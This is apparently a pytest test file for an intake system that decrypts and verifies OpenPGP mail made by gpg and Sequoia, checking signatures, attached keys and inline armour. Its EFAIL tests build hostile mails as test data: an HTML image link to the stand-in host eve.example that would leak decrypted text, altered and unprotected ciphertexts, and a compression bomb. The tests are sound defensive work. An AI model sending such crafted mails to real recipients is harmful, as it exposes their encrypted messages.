"""Layers of OpenPGP, opened and checked: mails made by gpg and sq."""

import base64
import json
import zipfile
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path

import pytest
from wrapped import ADA, HEAD, PART, US, WORDS, opened, told

from firsthand.intake.evidence import Signature, Wrapping
from firsthand.keys import actions as keys
from firsthand.keys.models import ProgrammeKey
from firsthand.keys.rules import KeySource
from firsthand.mail.layers.wrappings import FAULTS, Unwrapped, unwrap
from firsthand.mail.reading.parsing import read
from firsthand.programme.queries import Published
from openpgp_programs import Gnupg, gnupg, pgp_mime, pgp_signed, sq_encrypt

pytestmark = pytest.mark.django_db


@pytest.fixture(scope="module")
def ada() -> Iterator[Gnupg]:
    """A finder with GnuPG and a key of her own."""
    with gnupg() as ring:
        ring.new_key(ADA)
        yield ring


@pytest.fixture
def key(programme: Published, at: datetime, ada: Gnupg) -> ProgrammeKey:
    """The programme's key, which the finder has fetched."""
    made = keys.make_programme_key(at=at, by="test")
    for uid in ada.run("--list-keys", "--with-colons", US, may_fail=True).split(b"\n"):
        if uid.startswith(b"fpr:"):
            ada.run("--delete-keys", uid.split(b":")[9].decode(), may_fail=True)
    ada.takes(bytes(made.public))
    return made


def test_a_mail_without_protection_stays_as_it_is(programme: Published):
    mail = read(HEAD + b"\r\nHello.\r\n")
    assert unwrap(mail, b"") == Unwrapped(mail)


def test_a_mail_encrypted_by_gnupg_is_read(key: ProgrammeKey, ada: Gnupg):
    found = opened(pgp_mime(ada.encrypt(PART, US), HEAD))
    assert (found.fault, found.mail.text.strip()) == ("", WORDS.decode())
    assert told(found) == [(True, True, Signature.NONE)]
    assert found.mail.files == ()


def test_a_mail_encrypted_by_sequoia_is_read(key: ProgrammeKey, tmp_path: Path):
    found = opened(pgp_mime(sq_encrypt(PART, bytes(key.public), tmp_path), HEAD))
    assert (found.fault, found.mail.text.strip()) == ("", WORDS.decode())


def test_a_mail_encrypted_to_a_retired_key_is_read(key: ProgrammeKey, ada: Gnupg, at: datetime):
    raw = pgp_mime(ada.encrypt(PART, US), HEAD)
    keys.make_programme_key(at=at, by="test")
    assert opened(raw).mail.text.strip() == WORDS.decode()


def test_a_mail_to_a_key_that_is_not_ours_stays_closed(key: ProgrammeKey, ada: Gnupg):
    found = opened(pgp_mime(ada.encrypt(PART, ADA), HEAD))
    assert found.fault == "encrypted to a key that is not ours"
    assert told(found) == [(True, False, Signature.NONE)]
    assert found.mail.text == ""


def test_a_mail_stays_closed_where_the_programme_has_no_key(programme: Published, ada: Gnupg):
    assert opened(pgp_mime(ada.encrypt(PART, ADA), HEAD)).fault == "encrypted to a key that is not ours"


def test_a_signature_inside_by_an_unknown_key_proves_nothing(key: ProgrammeKey, ada: Gnupg):
    found = opened(pgp_mime(ada.encrypt(PART, US, "--sign", "--local-user", ADA), HEAD))
    assert told(found) == [(True, True, Signature.UNKNOWN_KEY)]


def test_a_key_that_comes_along_vouches_for_nothing(key: ProgrammeKey, ada: Gnupg):
    part = b'Content-Type: multipart/mixed; boundary="m"\r\n\r\n--m\r\n' + PART + (
        b'--m\r\nContent-Type: application/pgp-keys; name="key.asc"\r\n\r\n' + ada.public(ADA) + b"\r\n--m--\r\n"
    )  # fmt: skip
    part = part.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    found = opened(pgp_signed(part, ada.sign(part, ADA), HEAD))
    assert [(layer.signature, layer.fault) for layer in found.layers] == [
        (Signature.UNKNOWN_KEY, "signed with the key that came along")
    ]
    assert [offered.source for offered in found.keys] == [KeySource.ATTACHED]


def known_to_us(a_case, ada: Gnupg, at: datetime) -> None:
    """An earlier case of the same reporter holds her key."""
    keys.keep_reporter_key(a_case, ada.public(ADA), KeySource.CASE_PAGE, at=at, by="test")


@pytest.fixture
def case_of_ada(arrives, at: datetime):
    """A case that Ada opened by mail before."""
    return arrives(HEAD.replace(b"...", b"A bug") + b"\r\nA door opens by itself.\r\n", sender=ADA).case


def test_a_signature_by_the_key_of_an_earlier_case_is_good(key: ProgrammeKey, case_of_ada, ada: Gnupg, at: datetime):
    known_to_us(case_of_ada, ada, at)
    found = opened(pgp_signed(PART, ada.sign(PART, ADA), HEAD))
    assert told(found) == [(False, True, Signature.GOOD)]


def test_what_was_signed_then_encrypted_by_a_known_key_is_good(key, case_of_ada, ada: Gnupg, at: datetime):
    known_to_us(case_of_ada, ada, at)
    found = opened(pgp_mime(ada.encrypt(PART, US, "--sign", "--local-user", ADA), HEAD))
    assert told(found) == [(True, True, Signature.GOOD)]


def test_a_signed_mail_inside_an_encrypted_one_shows_which_layer_was_signed(key, case_of_ada, ada: Gnupg, at: datetime):
    known_to_us(case_of_ada, ada, at)
    inner = pgp_signed(PART, ada.sign(PART, ADA), b"")
    found = opened(pgp_mime(ada.encrypt(inner, US), HEAD))
    assert told(found) == [(True, True, Signature.NONE), (False, True, Signature.GOOD)]
    assert found.mail.text.strip() == WORDS.decode()


def test_a_known_key_is_not_good_for_another_sender(key, case_of_ada, ada: Gnupg, at: datetime):
    known_to_us(case_of_ada, ada, at)
    found = opened(pgp_signed(PART, ada.sign(PART, ADA), HEAD.replace(b"ada@", b"eve@")))
    assert told(found) == [(False, True, Signature.UNKNOWN_KEY)]


def test_a_signature_by_a_key_of_somebody_else_that_came_along_is_called_so(key, ada: Gnupg):
    head = HEAD.replace(b"ada@", b"eve@")
    part = b'Content-Type: multipart/mixed; boundary="m"\r\n\r\n--m\r\n' + PART + (
        b'--m\r\nContent-Type: application/pgp-keys; name="key.asc"\r\n\r\n' + ada.public(ADA) + b"\r\n--m--\r\n"
    )  # fmt: skip
    part = part.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    assert told(opened(pgp_signed(part, ada.sign(part, ADA), head))) == [(False, True, Signature.OTHER_SENDER)]


def test_altered_words_make_a_signature_bad(key: ProgrammeKey, case_of_ada, ada: Gnupg, at: datetime):
    known_to_us(case_of_ada, ada, at)
    found = opened(pgp_signed(PART.replace(b"7", b"8"), ada.sign(PART, ADA), HEAD))
    assert told(found) == [(False, True, Signature.BAD)]
    assert "door 8" in found.mail.text


def test_the_subject_inside_counts_where_it_is_protected(key: ProgrammeKey, ada: Gnupg):
    part = PART.replace(b"utf-8", b'utf-8; hp="cipher"', 1)
    found = opened(pgp_mime(ada.encrypt(b"Subject: Door 7\r\n" + part, US), HEAD))
    assert found.mail.subject == "Door 7"
    assert found.mail.message_id == "<1@finder.example>"


def test_the_sender_inside_does_not_count(key: ProgrammeKey, ada: Gnupg):
    found = opened(pgp_mime(ada.encrypt(b"From: eve@other.example\r\n" + PART, US), HEAD))
    assert found.mail.from_address == ADA


def test_a_mail_with_armour_as_its_words_is_read(key: ProgrammeKey, ada: Gnupg):
    found = opened(HEAD + b"\r\n" + ada.encrypt(WORDS, US))
    assert (found.fault, found.mail.text.strip()) == ("", WORDS.decode())
    assert found.layers[0].wrapping is Wrapping.OPENPGP_INLINE


def test_armour_in_a_mail_of_html_alone_is_read(key: ProgrammeKey, ada: Gnupg):
    lines = ada.encrypt(WORDS, US).decode().splitlines()
    html = "".join(f"<div>{line or '<br>'}</div>" for line in lines)
    found = opened(HEAD + b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + html.encode())
    assert (found.fault, found.mail.text.strip(), found.mail.html) == ("", WORDS.decode(), "")


def test_words_around_armour_stay_apart_from_what_was_inside(key: ProgrammeKey, ada: Gnupg):
    found = opened(HEAD + "\r\nOutside ⟦ OpenPGP\r\n".encode() + ada.encrypt(WORDS, US) + b"\r\nRegards\r\n")
    assert found.mail.text.split("\n") == [
        "Outside [ OpenPGP", "⟦ OpenPGP", "", WORDS.decode(), "", "OpenPGP ⟧", "", "Regards"
    ]  # fmt: skip


def test_armour_that_does_not_open_leaves_the_words_around_it(key: ProgrammeKey, ada: Gnupg):
    found = opened(HEAD + b"\r\nDear team\r\n" + ada.encrypt(WORDS, ADA))
    assert (found.fault, found.mail.text) == ("encrypted to a key that is not ours", "Dear team")


def test_words_signed_in_the_clear_are_checked(key: ProgrammeKey, case_of_ada, ada: Gnupg, at: datetime):
    known_to_us(case_of_ada, ada, at)
    found = opened(HEAD + b"\r\n" + ada.clearsign(WORDS + b"\n- a dash\n", ADA))
    assert told(found) == [(False, True, Signature.GOOD)]
    assert found.mail.text.strip() == WORDS.decode() + "\n- a dash"


def test_words_outside_a_signed_block_are_not_called_signed(key, case_of_ada, ada: Gnupg, at: datetime):
    known_to_us(case_of_ada, ada, at)
    found = opened(HEAD + b"\r\nPay me.\r\n" + ada.clearsign(WORDS, ADA))
    assert told(found) == [(False, True, Signature.NONE)]
    assert found.layers[0].fault == "only a part of the mail is signed"


class TestEfail:
    """CVE-2017-17688, CVE-2017-17689: nothing of a protected part reaches anything that stands outside."""

    def test_an_altered_ciphertext_gives_nothing(self, key: ProgrammeKey, ada: Gnupg):
        message = bytearray(ada.run("--recipient", US, "--encrypt", given=PART * 20))
        message[-60] ^= 1
        found = opened(pgp_mime(bytes(message), HEAD))
        assert found.fault == "encrypted to us, but altered or damaged on its way"
        assert (found.mail.text, found.mail.html) == ("", "")

    def test_a_ciphertext_without_protection_gives_nothing(self, key: ProgrammeKey, ada: Gnupg):
        options = ("--rfc2440", "--disable-mdc", "--cipher-algo", "aes256")
        found = opened(pgp_mime(ada.encrypt(PART, US, *options), HEAD))
        assert (found.fault, found.mail.text) == ("encrypted without protection against alteration", "")

    def test_html_around_a_ciphertext_is_never_joined_with_it(self, key: ProgrammeKey, ada: Gnupg):
        leak = b'--x\r\nContent-Type: text/html\r\n\r\n<img src="https://eve.example/?'
        inner = pgp_mime(ada.encrypt(PART, US), b"")
        raw = (
            HEAD + b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="x"\r\n\r\n' + leak
            + b"\r\n--x\r\n" + inner + b'\r\n--x\r\nContent-Type: text/html\r\n\r\n">Click here\r\n--x--\r\n'
        )  # fmt: skip
        found = opened(raw)
        assert (found.mail.text.strip(), found.mail.html) == (WORDS.decode(), "")
        outside = [file for file in found.mail.files if file.name.startswith("outside")]
        assert all(WORDS not in file.content for file in found.mail.files)
        assert b"Click here" in outside[0].content

    def test_html_beside_armour_is_left_out(self, key: ProgrammeKey, ada: Gnupg):
        raw = (
            HEAD + b'MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary="x"\r\n\r\n'
            b"--x\r\nContent-Type: text/plain\r\n\r\n" + ada.encrypt(WORDS, US)
            + b'\r\n--x\r\nContent-Type: text/html\r\n\r\n<img src="https://eve.example/">\r\n--x--\r\n'
        )  # fmt: skip
        found = opened(raw)
        assert (found.mail.text.strip(), found.mail.html) == (WORDS.decode(), "")

    def test_of_two_encrypted_parts_only_the_first_is_opened(self, key: ProgrammeKey, ada: Gnupg):
        first, second = (
            pgp_mime(ada.encrypt(PART.replace(b"7", n), US), b"", boundary=f"=_{n.decode()}") for n in (b"1", b"2")
        )
        raw = (
            HEAD + b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="x"\r\n\r\n'
            b"--x\r\n" + first + b"\r\n--x\r\n" + second + b"\r\n--x--\r\n"
        )  # fmt: skip
        found = opened(raw)
        assert "door 1" in found.mail.text
        assert "door 2" not in found.mail.text
        assert told(found) == [(True, True, Signature.NONE), (True, False, Signature.NONE)]

    def test_layers_without_end_come_to_one(self, key: ProgrammeKey, ada: Gnupg):
        inner = PART
        for _ in range(5):
            inner = pgp_mime(ada.encrypt(inner, US), b"")
        found = opened(HEAD + inner)
        assert found.fault == "wrapped in too many layers"
        assert found.mail.text == ""
        assert [layer.opened for layer in found.layers] == [True, True, True, True, False]

    def test_what_unpacks_without_end_gives_a_fault(self, key: ProgrammeKey, ada: Gnupg):
        bomb = ada.encrypt(PART + b"x" * 200_000_000, US, "--compress-algo", "zlib", "-z", "9")
        assert len(bomb) < 2_000_000
        assert opened(pgp_mime(bomb, HEAD)).fault == "what is inside is too large"


@pytest.mark.parametrize(
    "ciphertext", [b"", b"-----BEGIN PGP MESSAGE-----\n\nAAAA\n-----END PGP MESSAGE-----", b"\xc1"]
)
def test_what_only_claims_to_be_encrypted_stays_closed(key: ProgrammeKey, ciphertext: bytes):
    assert opened(pgp_mime(ciphertext, HEAD)).fault in FAULTS.values()


def with_file(content: bytes, name: str, words: str = "See the file.") -> bytes:
    return HEAD + (
        b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="x"\r\n\r\n--x\r\n'
        b"Content-Type: text/plain\r\n\r\n" + words.encode() + b"\r\n--x\r\nContent-Type: application/octet-stream\r\n"
        b'Content-Disposition: attachment; filename="' + name.encode() + b'"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(content) + b"--x--\r\n"
    )  # fmt: skip


def test_an_encrypted_file_is_opened_beside_the_words(key: ProgrammeKey, ada: Gnupg):
    found = opened(with_file(ada.run("--recipient", US, "--encrypt", given=WORDS), "report.txt.gpg"))
    assert [(file.name, file.content == WORDS) for file in found.mail.files] == [
        ("report.txt.gpg", False), ("report.txt", True)
    ]  # fmt: skip
    assert told(found) == [(True, True, Signature.NONE)]


def test_an_encrypted_file_to_somebody_else_stays_a_file(key: ProgrammeKey, ada: Gnupg):
    found = opened(with_file(ada.encrypt(WORDS, ADA), "report.asc"))
    assert (found.fault, found.mail.text.strip(), len(found.mail.files)) == ("", "See the file.", 1)
    assert told(found) == [(True, False, Signature.NONE)]


def test_an_encrypted_file_and_nothing_else_is_asked_for_again(key: ProgrammeKey, ada: Gnupg):
    found = opened(with_file(ada.encrypt(WORDS, ADA), "report.asc", words=""))
    assert found.fault == "encrypted to a key that is not ours"


def test_every_fault_has_a_sentence_at_the_desk():
    from firsthand.keys import opening, smime
    from firsthand.mail.layers import worth, wrappings
    from firsthand.staff.mail_reasons import REASONS

    said = {
        *FAULTS.values(), wrappings.TOO_DEEP, wrappings.MALFORMED, wrappings.INSIDE_UNREADABLE, wrappings.BESIDE,
        worth.CAME_ALONG, worth.PARTLY, worth.NOT_VOUCHED, smime.NO_PROGRAM, smime.NOT_TO_US, smime.NOT_KNOWN,
        opening.UNFIT, opening.UNTOLD,
    }  # fmt: skip
    assert said - set(REASONS) == set()


@pytest.mark.timeout(300)
def test_no_protected_mail_of_the_corpus_is_lost(shared: Path, programme: Published):
    folder = shared / "corpora" / "mail"
    protected = 0
    with zipfile.ZipFile(folder / "mails.zip") as archive:
        for line in (folder / "index.jsonl").read_text().splitlines():
            row = json.loads(line)
            if not any("pgp" in word or "smime" in word or "signed:" in word for word in row["exercises"]):
                continue
            found = opened(archive.read(row["file"]))
            protected += 1
            assert found.fault or found.mail.text.strip() or found.mail.files or found.mail.body_is_empty, row["file"]
            assert not found.fault or any(not layer.opened for layer in found.layers), row["file"]
    assert protected >= 29
